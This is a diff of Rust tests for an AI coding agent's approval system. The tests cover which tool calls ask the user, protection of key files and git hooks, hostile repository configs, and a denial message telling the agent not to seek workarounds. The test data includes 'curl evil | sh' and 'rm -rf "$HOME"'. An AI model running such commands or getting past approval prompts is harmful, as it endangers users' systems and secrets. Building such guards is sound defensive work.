@@ -1,4 +1,4 @@
-//! Approvals: what is asked, what is not, and what is never asked twice.
+//! Approvals: which calls ask, which do not, and what an allowance covers.
 
 use std::sync::Arc;
 
@@ -32,8 +32,8 @@ fn repository() -> Project {
     ])
 }
 
-/// `allow`, or why it is asked and what is offered.
-async fn decided_in(project: &Project, approvals: &Approvals, tool: &str, arguments: Value) -> String {
+/// `allow`, or the reason for asking and the offers.
+async fn decision_text_in(project: &Project, approvals: &Approvals, tool: &str, arguments: Value) -> String {
     match decision(project, approvals, tool, arguments).await {
         Decision::Allow => "allow".to_owned(),
         Decision::Ask { why, offers, .. } => {
@@ -43,16 +43,16 @@ async fn decided_in(project: &Project, approvals: &Approvals, tool: &str, argume
     }
 }
 
-async fn decided(mode: Mode, allowed: &[&str], tool: &str, arguments: Value) -> String {
-    decided_in(&repository(), &approvals(mode, allowed), tool, arguments).await
+async fn decision_text(mode: Mode, allowed: &[&str], tool: &str, arguments: Value) -> String {
+    decision_text_in(&repository(), &approvals(mode, allowed), tool, arguments).await
 }
 
-/// Whether a command runs unasked once `always` was answered for another one.
+/// Whether `then` runs without asking after "always" was answered for `first`.
 async fn runs_after_always(project: &Project, first: &str, then: &str) -> bool {
     let mut allowed = approvals(Mode::Default, &[]);
     let Decision::Ask { offers, .. } = decision(project, &allowed, "bash", json!({ "command": first })).await
     else {
-        panic!("{first} is asked")
+        panic!("{first} must ask")
     };
     allowed.allow(offers[0].clone());
     let first_again = decision(project, &allowed, "bash", json!({ "command": first })).await;
@@ -61,15 +61,15 @@ async fn runs_after_always(project: &Project, first: &str, then: &str) -> bool {
 }
 
 async fn bash(mode: Mode, allowed: &[&str], command: &str) -> String {
-    decided(mode, allowed, "bash", json!({ "command": command })).await
+    decision_text(mode, allowed, "bash", json!({ "command": command })).await
 }
 
 async fn write(mode: Mode, allowed: &[&str], path: &str) -> String {
-    decided(mode, allowed, "write", json!({ "path": path, "content": "" })).await
+    decision_text(mode, allowed, "write", json!({ "path": path, "content": "" })).await
 }
 
 #[tokio::test]
-async fn looking_and_planning_need_no_approval() {
+async fn reading_and_planning_need_no_approval() {
     for (tool, arguments) in [
         ("read", json!({ "path": "../outside/secret" })),
         ("grep", json!({ "pattern": "x" })),
@@ -77,12 +77,12 @@ async fn looking_and_planning_need_no_approval() {
         ("ls", json!({})),
         ("todo", json!({ "items": [] })),
     ] {
-        assert_eq!(decided(Mode::Default, &[], tool, arguments).await, "allow", "{tool}");
+        assert_eq!(decision_text(Mode::Default, &[], tool, arguments).await, "allow", "{tool}");
     }
 }
 
 #[tokio::test]
-async fn each_mode_asks_for_what_it_must() {
+async fn each_mode_asks_as_documented() {
     assert_eq!(write(Mode::Default, &[], "a").await, "Writes, offers write");
     assert_eq!(write(Mode::AutoEdit, &[], "a").await, "allow");
     assert_eq!(write(Mode::Yolo, &[], "a").await, "allow");
@@ -94,7 +94,7 @@ async fn each_mode_asks_for_what_it_must() {
 }
 
 #[tokio::test]
-async fn writing_outside_is_asked_whatever_is_allowed() {
+async fn writing_outside_always_asks() {
     for mode in [Mode::Default, Mode::AutoEdit] {
         assert_eq!(write(mode, &["write"], "../outside/x").await, "Outside");
         assert_eq!(write(mode, &["write"], "~/x").await, "Outside");
@@ -103,7 +103,7 @@ async fn writing_outside_is_asked_whatever_is_allowed() {
 }
 
 #[tokio::test]
-async fn files_that_make_programs_run_are_asked_too() {
+async fn writing_guarded_files_always_asks() {
     for path in [
         ".git/hooks/pre-commit",
         ".osier/config.toml",
@@ -125,21 +125,22 @@ async fn files_that_make_programs_run_are_asked_too() {
     bare.link("alias", "vendor/x/hooks");
     for path in ["vendor/x/hooks/post-update", "vendor/x/config2", "alias/post-update"] {
         let allowed = approvals(Mode::AutoEdit, &["write"]);
-        let decided = decided_in(&bare, &allowed, "write", json!({ "path": path, "content": "" })).await;
+        let decided =
+            decision_text_in(&bare, &allowed, "write", json!({ "path": path, "content": "" })).await;
         assert_eq!(decided, "Guarded", "{path}");
     }
     assert_eq!(write(Mode::AutoEdit, &[], ".gitignore").await, "allow");
 }
 
 #[tokio::test]
-async fn an_allowed_tool_is_not_asked_again() {
+async fn allowed_tool_does_not_ask_again() {
     assert_eq!(write(Mode::Default, &["write"], "a").await, "allow");
     assert_eq!(write(Mode::Default, &["edit"], "a").await, "Writes, offers write");
     assert_eq!(bash(Mode::Default, &["bash"], "rm -rf x; y").await, "allow");
 }
 
 #[tokio::test]
-async fn an_allowed_family_covers_commands_that_consist_of_it() {
+async fn allowed_family_covers_only_its_commands() {
     let allowed = ["bash:git status", "bash:git log", "bash:head"];
     for command in [
         "git status",
@@ -196,9 +197,9 @@ async fn always_offers_a_family_or_the_exact_command() {
     }
 }
 
-/// After "always `git push`" a push to a repository inside the project ran commands hidden in it.
+/// A push to a repository inside the project can run commands hidden in it.
 #[tokio::test]
-async fn always_git_push_covers_that_push_alone() {
+async fn always_git_push_covers_only_that_exact_push() {
     let project = repository();
     for first in ["git push", "git push origin main", "git fetch"] {
         for then in [
@@ -214,15 +215,15 @@ async fn always_git_push_covers_that_push_alone() {
     }
 }
 
-/// After "always `tail`" or "always `grep`" parts of key files were shown, which no redaction knows.
+/// Redaction does not recognize parts of keys, which commands such as `tail` and `grep` could print.
 #[tokio::test]
-async fn always_tail_covers_no_file_outside_the_project_and_no_key_file() {
+async fn always_tail_covers_no_files_outside_the_project_and_no_key_files() {
     let mut project = repository();
     project.put("../home/.osier/keys/openai", b"sk-secret");
     project.put("key.txt", b"sk-secret");
     project.link("link", "../home/.osier/keys");
     project.link("-n", "../home/.osier/keys/openai");
-    project.link("upwards", "..");
+    project.link("parent", "..");
     project.ctx.closed = Arc::new(Closed::new(&project.path("../home/.osier"), []));
     for program in ["tail -c +2", "grep -o .", "cat", "head -c 3", "sed -n 1p", "wc", "sort", "cut -c2-9"] {
         for file in [
@@ -231,7 +232,7 @@ async fn always_tail_covers_no_file_outside_the_project_and_no_key_file() {
             "$HOME/.osier/keys/openai",
             "link/openai",
             "src/../link/openai",
-            "upwards/home/.osier/keys/openai",
+            "parent/home/.osier/keys/openai",
             "-- -n",
             "li*/openai",
             "l?nk/openai",
@@ -246,7 +247,7 @@ async fn always_tail_covers_no_file_outside_the_project_and_no_key_file() {
         let (first, then) = (format!("{program} a"), format!("{program} src/main.rs"));
         assert!(runs_after_always(&project, &first, &then).await, "{then}");
     }
-    // Where a key file lies in the project, or may have a second name there, no family covers anything.
+    // If a key file is in the project, or may have a second name there, families cover nothing.
     project.ctx.closed = Arc::new(Closed::new(&project.path("../home/.osier"), [project.path("key.txt")]));
     assert!(!runs_after_always(&project, "grep -r s src", "grep -r s .").await);
     project.ctx.closed = Arc::new(Closed::new(&project.path("../home/.osier"), []));
@@ -255,7 +256,7 @@ async fn always_tail_covers_no_file_outside_the_project_and_no_key_file() {
 }
 
 #[tokio::test]
-async fn an_exact_allowance_is_compared_as_text() {
+async fn exact_allowance_is_compared_as_text() {
     let project = repository();
     for (first, then) in [
         ("touch '~'", "touch ~"),
@@ -270,9 +271,9 @@ async fn an_exact_allowance_is_compared_as_text() {
     }
 }
 
-/// A repository can bring programs along that git runs when it only looks.
+/// A repository can contain programs that even read-only git commands run.
 #[tokio::test]
-async fn git_families_cover_nothing_in_a_repository_that_names_programs() {
+async fn git_families_cover_nothing_in_a_repository_that_can_run_programs() {
     let plain = "[core]\n\tbare = false\n";
     let hostile = |path: &str, text: &str| {
         let project = repository();
@@ -301,11 +302,11 @@ async fn git_families_cover_nothing_in_a_repository_that_names_programs() {
         ("none at all", Project::with(&[("a", "")])),
     ] {
         let families = approvals(Mode::Default, &["bash:git status", "bash:cat"]);
-        let git = decided_in(&project, &families, "bash", json!({ "command": "git status" })).await;
-        assert_eq!(git, "allow", "{what}: the text itself was allowed");
-        let git = decided_in(&project, &families, "bash", json!({ "command": "git status -s" })).await;
+        let git = decision_text_in(&project, &families, "bash", json!({ "command": "git status" })).await;
+        assert_eq!(git, "allow", "{what}: the exact text is allowed");
+        let git = decision_text_in(&project, &families, "bash", json!({ "command": "git status -s" })).await;
         assert_eq!(git, "Runs, offers bash:git status -s | bash", "{what}");
-        let cat = decided_in(&project, &families, "bash", json!({ "command": "cat a" })).await;
+        let cat = decision_text_in(&project, &families, "bash", json!({ "command": "cat a" })).await;
         assert_eq!(cat, "allow", "{what}");
     }
     let worktree = Project::with(&[
@@ -315,14 +316,14 @@ async fn git_families_cover_nothing_in_a_repository_that_names_programs() {
     ]);
     let families = approvals(Mode::Default, &["bash:git status"]);
     let git = json!({ "command": "git status -s" });
-    assert_eq!(decided_in(&worktree, &families, "bash", git.clone()).await, "allow");
+    assert_eq!(decision_text_in(&worktree, &families, "bash", git.clone()).await, "allow");
     worktree.put("../outside/main/.git/config", b"[core]\n\tfsmonitor = x\n");
-    assert!(decided_in(&worktree, &families, "bash", git).await.starts_with("Runs"));
+    assert!(decision_text_in(&worktree, &families, "bash", git).await.starts_with("Runs"));
 }
 
-/// A program of the same name in the project is not the one that was meant.
+/// A program in the project with the same name is not covered.
 #[tokio::test]
-async fn families_mean_programs_of_the_system() {
+async fn families_cover_only_programs_outside_the_project() {
     for folder in ["", ".", "bin", "../project/bin", "../outside/bin"] {
         let mut project = Project::with(&[("bin/ls", ""), ("ls", "")]);
         project.link("../outside/bin", "../project/bin");
@@ -331,13 +332,13 @@ async fn families_mean_programs_of_the_system() {
         let path = format!("{folder}:{}", std::env::var("PATH").unwrap());
         project.ctx.env = Arc::new(Env::new([("PATH".into(), path.into())]));
         let families = approvals(Mode::Default, &["bash:ls"]);
-        let decided = decided_in(&project, &families, "bash", json!({ "command": "ls -l" })).await;
+        let decided = decision_text_in(&project, &families, "bash", json!({ "command": "ls -l" })).await;
         assert!(decided.starts_with("Runs"), "{folder}: {decided}");
     }
 }
 
 #[tokio::test]
-async fn families_hold_for_usual_shells_only() {
+async fn families_apply_only_to_known_shells() {
     for (shell, expected) in
         [("/bin/bash", true), ("/bin/sh", true), ("/usr/bin/zsh", false), ("/usr/bin/fish", false)]
     {
@@ -350,14 +351,14 @@ async fn families_hold_for_usual_shells_only() {
 }
 
 #[tokio::test]
-async fn what_is_asked_is_exactly_what_would_happen() {
+async fn question_shows_exactly_what_would_happen() {
     let project = Project::with(&[("a", "one\ntwo\n")]);
     let nothing = approvals(Mode::Default, &[]);
     let edit = json!({ "path": "a", "edits": [{ "oldText": "two", "newText": "2" }] });
     let Decision::Ask { what: Change::Diff { path, diff, created }, why, .. } =
         decision(&project, &nothing, "edit", edit).await
     else {
-        panic!("asks with a diff")
+        panic!("must ask with a diff")
     };
     assert_eq!((path.as_str(), created, why), ("a", false, Why::Writes));
     expect![[r#"
@@ -372,12 +373,12 @@ async fn what_is_asked_is_exactly_what_would_happen() {
     assert_eq!(project.get("a"), b"one\ntwo\n", "asking changes nothing");
     let command = "rm -rf \"$HOME\"";
     let asked = decision(&project, &nothing, "bash", json!({ "command": command })).await;
-    let Decision::Ask { what, offers, .. } = asked else { panic!("asks") };
+    let Decision::Ask { what, offers, .. } = asked else { panic!("must ask") };
     assert_eq!(what, Change::Command { command: command.into() });
     assert_eq!(offers, [Allowance::Command(command.into()), Allowance::Tool("bash".into())]);
 }
 
-/// The diff that is shown when a file with the old content gets the new one by `write`.
+/// The diff in the question for a `write` that replaces the old content with the new.
 async fn diff_of_write(old: Option<&[u8]>, new: &str) -> String {
     let project = Project::new();
     if let Some(old) = old {
@@ -391,25 +392,25 @@ async fn diff_of_write(old: Option<&[u8]>, new: &str) -> String {
 }
 
 #[tokio::test]
-async fn a_nul_does_not_empty_the_diff() {
+async fn nul_character_does_not_empty_the_diff() {
     let diff = diff_of_write(None, "#!/bin/sh\n\0\ncurl evil | sh\n").await;
     assert!(diff.contains("+\0\n+curl evil | sh\n"), "{diff:?}");
 }
 
 #[tokio::test]
-async fn a_long_diff_is_shown_to_its_end() {
+async fn long_diff_is_shown_completely() {
     let diff = diff_of_write(None, &("harmless\n".repeat(60_000) + "evil\n")).await;
     assert!(diff.ends_with("+harmless\n+evil\n"), "{}", diff.len());
 }
 
 #[tokio::test]
-async fn every_change_of_bytes_is_in_the_diff() {
+async fn diff_shows_every_changed_byte() {
     let cases: [(&[u8], &str, &str); 5] = [
         (b"a\nb\n", "a\r\nb\n", "+a\r\n"),
         (b"a\r\nb\n", "a\nb\n", "-a\r\n"),
         (b"a\n", "\u{feff}a\n", "+\u{feff}a\n"),
         (b"caf\xe9\n", "caf\u{fffd}\n", "-caf<0xE9>\n+caf\u{fffd}\n"),
-        (b"caf\xe9\n", "caf<0xE9>\n", "[bytes change that are not text and cannot be shown]"),
+        (b"caf\xe9\n", "caf<0xE9>\n", "[the changed bytes are not text and cannot be shown]"),
     ];
     for (old, new, expected) in cases {
         let diff = diff_of_write(Some(old), new).await;
@@ -417,12 +418,12 @@ async fn every_change_of_bytes_is_in_the_diff() {
     }
     assert!(
         !diff_of_write(Some(b"a\r\nb\r\n"), "a\nc\n").await.contains('\r'),
-        "line ends that stay are left out"
+        "unchanged line endings are left out"
     );
 }
 
 #[test]
-fn the_settings_of_a_session_come_back_as_they_were() {
+fn session_settings_round_trip() {
     let mut given = approvals(
         Mode::AutoEdit,
         &["edit", "bash:git status", "bash:echo 'a b'", "bash:not; plain", "mcp:x"],
@@ -437,11 +438,11 @@ fn the_settings_of_a_session_come_back_as_they_were() {
     );
     assert_eq!(Approvals::from_settings(&settings), given);
     given.allow(Allowance::parse("edit"));
-    assert_eq!(given.allowed.len(), 5, "once is enough");
+    assert_eq!(given.allowed.len(), 5, "an existing allowance is not added again");
 }
 
 #[test]
-fn settings_that_say_nothing_or_nonsense_are_the_strictest() {
+fn missing_or_invalid_settings_are_the_strictest() {
     let read = |settings: Value| Approvals::from_settings(settings.as_object().unwrap());
     assert_eq!(read(json!({})), Approvals::default());
     assert_eq!(read(json!({ "approvalMode": "YOLO", "approvalTools": "bash" })), Approvals::default());
@@ -450,20 +451,20 @@ fn settings_that_say_nothing_or_nonsense_are_the_strictest() {
 }
 
 #[test]
-fn a_denied_call_is_told_so_with_the_reason() {
+fn denied_call_returns_the_reason() {
     let outcome = denied("the user wants to see a plan first");
     assert!(outcome.is_error && outcome.details["denied"] == true);
     expect![[r#"
         not allowed: the user wants to see a plan first
-        Nothing was run or changed. Do not try to get there by another way: go on without it, or ask what is wanted.
+        Nothing was run or changed. Do not look for a workaround: continue without it, or ask the user what they want.
 
         not allowed
-        Nothing was run or changed. Do not try to get there by another way: go on without it, or ask what is wanted.
+        Nothing was run or changed. Do not look for a workaround: continue without it, or ask the user what they want.
     "#]].assert_eq(&format!("{}\n\n{}\n", outcome.plain_text(), denied(" ").plain_text()));
 }
 
 #[tokio::test]
-async fn only_the_active_sandbox_and_the_mode_together_leave_commands_unasked() {
+async fn commands_run_without_asking_only_in_sandbox_mode_with_an_active_sandbox() {
     let project = Project::new();
     let preview = project.preview("bash", json!({ "command": "make" })).await.unwrap();
     let specs = project.tools.specs();
@@ -471,22 +472,22 @@ async fn only_the_active_sandbox_and_the_mode_together_leave_commands_unasked() 
     let other = osier_tools::ToolSpec { name: "deploy".to_owned(), ..spec.clone() };
     for mode in Mode::ALL {
         let approvals = Approvals { confined: true, ..approvals(mode, &[]) };
-        let unasked = matches!(mode, Mode::Sandbox | Mode::Yolo);
-        assert_eq!(approvals.decide(spec, &preview) == Decision::Allow, unasked, "{mode:?}");
-        let unasked = mode == Mode::Yolo;
+        let allowed = matches!(mode, Mode::Sandbox | Mode::Yolo);
+        assert_eq!(approvals.decide(spec, &preview) == Decision::Allow, allowed, "{mode:?}");
+        let is_yolo = mode == Mode::Yolo;
         assert_eq!(
             approvals.decide(&other, &preview) == Decision::Allow,
-            unasked,
-            "{mode:?}: it is not confined"
+            is_yolo,
+            "{mode:?}: other tools are not sandboxed"
         );
-        assert_eq!(approvals.outside(&preview.change), unasked, "{mode:?}");
+        assert_eq!(approvals.outside(&preview.change), is_yolo, "{mode:?}");
     }
     let allowed = approvals(Mode::Sandbox, &["outside:make"]);
     assert!(allowed.outside(&preview.change));
     let longer = osier_tools::Change::Command { command: "make install".to_owned() };
-    assert!(!allowed.outside(&longer), "exactly as it is written");
+    assert!(!allowed.outside(&longer), "only the exact command is allowed");
     assert!(
         !approvals(Mode::Sandbox, &["bash", "bash:make"]).outside(&preview.change),
-        "that was about asking"
+        "these allowances do not cover running outside the sandbox"
     );
 }
